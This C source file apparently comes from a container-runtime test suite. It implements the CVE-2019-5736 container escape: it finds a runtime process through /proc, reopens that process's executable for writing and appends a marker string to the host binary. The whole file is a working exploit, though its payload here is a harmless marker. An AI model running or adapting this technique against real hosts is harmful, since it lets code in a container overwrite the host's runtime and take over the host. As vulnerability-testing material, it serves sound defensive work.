/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The CVE-2019-5736 attack, run from inside a container: wait for a process
 * whose command line names TRIGGER (a "#!/proc/self/exe" script the runtime
 * is made to exec, so that the kernel runs whatever /proc/self/exe of the
 * exec'ing process is; the runtime's own process for that exec names it
 * too), open its /proc/<pid>/exe with O_PATH (again and again while the
 * process lives, as its privileges change), then retry
 * opening that through /proc/self/fd/N for writing until ETXTBSY clears, and
 * append MARKER to it. With a runtime whose process in the container is its
 * own binary until the last execve, that binary is the host's.
 *
 *   exe_overwrite TRIGGER SECONDS STOPFILE
 *
 * Every process naming TRIGGER is attacked in turn, until one write works,
 * SECONDS pass or STOPFILE exists. Reports on stdout, one line per event:
 * ready, seen=PID, exe_open=ok|ERRNO, exe=TARGET, open_write=ERRNO,
 * write=ok|ERRNO; ends with done. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MARKER "\nHUTCH-ATTACK-MARKER\n"

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static const char *err_name(int e)
{
	static char buf[32];

	switch (e) {
	case EACCES:
		return "EACCES";
	case EPERM:
		return "EPERM";
	case ENOENT:
		return "ENOENT";
	case ETXTBSY:
		return "ETXTBSY";
	case ESRCH:
		return "ESRCH";
	default:
		snprintf(buf, sizeof(buf), "errno%d", e);
		return buf;
	}
}

/* Whether /proc/PID/cmdline holds `trigger` as one of its arguments. */
static int names_trigger(const char *pid, const char *trigger)
{
	char path[64], buf[4096];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/cmdline", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = '\0';
	for (char *p = buf; p < buf + n; p += strlen(p) + 1)
		if (strcmp(p, trigger) == 0)
			return 1;
	return 0;
}

/* Write through the O_PATH fd once nothing executes the file any more. */
static int overwrite(int pathfd, double deadline)
{
	char self[64];
	int fd;

	snprintf(self, sizeof(self), "/proc/self/fd/%d", pathfd);
	while ((fd = open(self, O_WRONLY | O_APPEND | O_CLOEXEC)) < 0 && errno == ETXTBSY &&
	       now() < deadline)
		usleep(1000);
	if (fd < 0) {
		printf("open_write=%s\n", err_name(errno));
		return -1;
	}
	if (write(fd, MARKER, strlen(MARKER)) == (ssize_t)strlen(MARKER)) {
		printf("write=ok\n");
		close(fd);
		return 0;
	}
	printf("write=%s\n", err_name(errno));
	close(fd);
	return -1;
}

/* Open /proc/PID/exe with O_PATH, trying again and again while the process
 * lives: its access rules change as it drops privileges. */
static int open_exe(const char *pid, double deadline)
{
	char path[64];
	int fd, e = ESRCH;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	while (now() < deadline) {
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd >= 0)
			return fd;
		if (errno == ENOENT || errno == ESRCH)
			break; /* gone */
		e = errno;
	}
	errno = e;
	return -1;
}

static int attack(const char *pid, double deadline)
{
	char path[64], target[4096];
	ssize_t n;
	int fd = open_exe(pid, deadline);

	if (fd < 0) {
		printf("exe_open=%s\n", err_name(errno));
		return -1;
	}
	printf("exe_open=ok\n");
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, target, sizeof(target) - 1);
	target[n > 0 ? n : 0] = '\0';
	printf("exe=%s\n", target);
	fflush(stdout);
	n = overwrite(fd, deadline);
	close(fd);
	return (int)n;
}

int main(int argc, char **argv)
{
	double deadline;
	char seen[256] = "", self[32];

	if (argc != 4)
		return 2;
	setvbuf(stdout, NULL, _IOLBF, 0);
	deadline = now() + atof(argv[2]);
	snprintf(self, sizeof(self), "%d", (int)getpid()); /* our argv names TRIGGER too */
	printf("ready\n");
	while (now() < deadline && access(argv[3], F_OK) < 0) {
		DIR *d = opendir("/proc");
		struct dirent *de;

		while (d && (de = readdir(d))) {
			if (de->d_name[0] < '0' || de->d_name[0] > '9' ||
			    strcmp(de->d_name, seen) == 0 || strcmp(de->d_name, self) == 0 ||
			    !names_trigger(de->d_name, argv[1]))
				continue;
			snprintf(seen, sizeof(seen), "%s", de->d_name);
			printf("seen=%s\n", seen);
			if (attack(seen, deadline) == 0) {
				closedir(d);
				printf("done\n");
				return 0;
			}
		}
		if (d)
			closedir(d);
	}
	printf("done\n");
	return 1;
}
